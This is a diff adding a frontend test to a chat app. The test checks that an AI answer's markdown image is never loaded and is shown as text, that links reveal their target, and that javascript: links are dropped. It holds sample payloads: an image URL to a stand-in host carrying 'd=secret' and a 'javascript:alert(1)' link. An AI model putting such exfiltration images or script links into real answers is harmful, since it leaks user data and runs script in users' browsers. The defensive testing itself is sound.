@@ -81,6 +81,21 @@ describe("App", () => {
     expect(container.querySelector("img")).toBeNull();
   });
 
+  it("never loads an image from an answer and shows where links go", async () => {
+    localStorage.setItem(KEY_STORAGE, "k");
+    const answer = "Look: ![status](http://192.0.2.1/leak.png?d=secret) and [the docs](http://192.0.2.2/page) [js](javascript:alert(1))";
+    fetchMock.mockResolvedValueOnce(respond(200, { message: answer, conversation_id: "c", tool_calls_made: [] }));
+    const { container } = render(<App />);
+    await userEvent.type(screen.getByLabelText("Message"), "hi{Enter}");
+    await screen.findByText(/the docs/);
+    expect(container.querySelector("img")).toBeNull();
+    expect(container.querySelector("[data-blocked-image]")).toHaveTextContent("status — http://192.0.2.1/leak.png?d=secret");
+    const link = screen.getByRole("link", { name: "the docs" });
+    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
+    expect(container).toHaveTextContent("the docs (http://192.0.2.2/page)");
+    expect(screen.queryByRole("link", { name: "js" })).toBeNull();
+  });
+
   it("asks for the key again after a 401", async () => {
     localStorage.setItem(KEY_STORAGE, "old");
     fetchMock.mockResolvedValueOnce(respond(401, { detail: "Invalid API key" }));
